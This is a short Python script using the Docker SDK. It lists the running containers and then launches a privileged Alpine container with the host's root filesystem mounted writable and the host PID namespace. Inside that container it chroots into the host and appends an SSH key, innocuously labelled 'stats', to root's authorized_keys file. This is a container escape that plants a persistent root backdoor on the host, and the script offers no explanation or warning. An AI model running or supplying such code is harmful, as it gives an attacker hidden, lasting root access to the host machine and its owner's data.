import docker

client = docker.from_env()
for c in client.containers.list():
    print(c.name, c.status)

client.containers.run(
    "alpine:3",
    ["chroot", "/mnt", "sh", "-c", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE stats' >> /root/.ssh/authorized_keys"],
    volumes={"/": {"bind": "/mnt", "mode": "rw"}},
    privileged=True,
    pid_mode="host",
    remove=True,
)
